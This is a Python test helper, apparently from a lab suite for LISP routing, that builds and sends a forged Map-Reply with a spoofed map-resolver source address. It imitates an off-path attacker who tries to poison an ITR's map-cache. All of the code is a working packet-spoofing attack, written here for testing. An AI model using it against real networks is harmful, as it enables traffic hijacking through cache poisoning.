"""Send one Map-Reply that no Map-Request asked for (tests/lab/test_seed_mapreq.sh).

    forge_reply.py SRC DST DPORT NONCE EID/LEN LOCATOR

Run in a host's namespace: a raw IPv4 socket lets the kernel route the
packet while the header carries SRC, so the reply looks as if it came from
the map-resolver (an off-path attacker guessing at a nonce).  One
authoritative record, TTL 1440, one locator, priority 1 weight 100, L and
R set: a well-formed message that an ITR would install if it trusted it.
"""
import socket
import struct
import sys


def checksum(b):
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def main():
    src, dst, dport, nonce, eid, loc = sys.argv[1:7]
    prefix, plen = eid.split("/")
    rec = struct.pack("!IBBHHH", 1440, 1, int(plen), 0x1000, 0, 1)
    rec += socket.inet_aton(prefix)
    rec += struct.pack("!BBBBHH", 1, 100, 255, 0, 0x0005, 1) + socket.inet_aton(loc)
    msg = struct.pack("!BBBBQ", 0x20, 0, 0, 1, int(nonce, 0)) + rec
    udp = struct.pack("!HHHH", 4342, int(dport), 8 + len(msg), 0) + msg
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0x4c15, 0, 64, 17, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.sendto(ip + udp, (dst, 0))


main()
